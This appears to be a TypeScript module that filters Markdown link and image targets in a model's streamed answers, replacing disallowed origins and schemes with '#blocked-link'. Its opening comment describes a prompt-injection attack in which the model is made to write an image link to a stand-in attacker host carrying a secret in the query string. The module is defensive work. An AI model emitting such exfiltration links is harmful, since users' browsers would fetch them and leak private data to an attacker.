/**
 * Limits the targets of Markdown links and images in an answer to allowed origins, in the delta path,
 * so the stream the client sees and the stored answer agree. A prompt injection that makes the model
 * write `![x](https://attacker.example/?q=<secret>)` would make every browser that shows the answer
 * fetch that URL; here such a target becomes `#blocked-link` before anything is published.
 *
 * Incremental and cheap: text goes out at once except a link target, which is held from the `](` that
 * opens it to the `)` that closes it (or until it turns out not to be one: a space, a line break, or
 * more than 2,048 characters), then released unchanged or with its target replaced.
 *
 * Rules: relative targets (`/api/…`, `#…`, `./…`) are always allowed; `http(s)` targets are allowed
 * when their origin is listed (`*` allows every origin); `mailto:` is allowed for links and
 * `data:image/…` for images (nothing is fetched); every other scheme (`javascript:`, `file:`, …) is
 * blocked.
 */

export interface LinkGuardOptions {
  /** Origins (`https://example.com`) links may point at; `*` for any http(s) origin. */
  linkOrigins: readonly string[];
  /** Origins images may load from; `*` for any. Relative URLs (our own files) are always allowed. */
  imageOrigins: readonly string[];
  /** Told about each target replaced (for the log). */
  onBlocked?(target: string, kind: 'link' | 'image'): void;
}

/** What a blocked target is replaced with. */
export const BLOCKED_TARGET = '#blocked-link';

const MAX_TARGET_CHARS = 2048;
const SCHEME = /^([a-z][a-z0-9+.-]*):/i;

export function isAllowedTarget(target: string, kind: 'link' | 'image', options: Pick<LinkGuardOptions, 'linkOrigins' | 'imageOrigins'>): boolean {
  const url = target.trim().replace(/^<|>$/g, '').split(/\s+/)[0] ?? '';
  const scheme = SCHEME.exec(url)?.[1]?.toLowerCase();
  if (scheme === undefined) return !url.startsWith('//');
  if (scheme === 'mailto') return kind === 'link';
  // An inline image (kept inline when its upload failed) loads nothing from anywhere.
  if (scheme === 'data') return kind === 'image' && /^data:image\//i.test(url);
  if (scheme !== 'http' && scheme !== 'https') return false;
  const allowed = kind === 'link' ? options.linkOrigins : options.imageOrigins;
  if (allowed.includes('*')) return true;
  try {
    return allowed.includes(new URL(url).origin);
  } catch {
    return false;
  }
}

export class LinkGuard {
  private previous = '';
  private bracketIsImage = false;
  private target: string | undefined;
  private targetIsImage = false;

  constructor(private readonly options: LinkGuardOptions) {}

  /** Feeds a delta; returns the text that can go out now. */
  push(text: string): string {
    let out = '';
    for (const character of text) {
      if (this.target !== undefined) {
        if (character === ')') {
          out += this.release(true) + character;
        } else if (character === ' ' || character === '\n' || this.target.length >= MAX_TARGET_CHARS) {
          out += this.release(false) + character;
        } else {
          this.target += character;
        }
      } else {
        out += character;
        if (character === '[') this.bracketIsImage = this.previous === '!';
        if (character === '(' && this.previous === ']') {
          this.target = '';
          this.targetIsImage = this.bracketIsImage;
        }
      }
      this.previous = character;
    }
    return out;
  }

  /** The stream ended: a target still held goes out unchanged (it never closed, so it is no link). */
  end(): string {
    return this.target === undefined ? '' : this.release(false);
  }

  private release(closed: boolean): string {
    const target = this.target ?? '';
    this.target = undefined;
    if (!closed) return target;
    const kind = this.targetIsImage ? 'image' : 'link';
    if (isAllowedTarget(target, kind, this.options)) return target;
    this.options.onBlocked?.(target, kind);
    return BLOCKED_TARGET;
  }
}
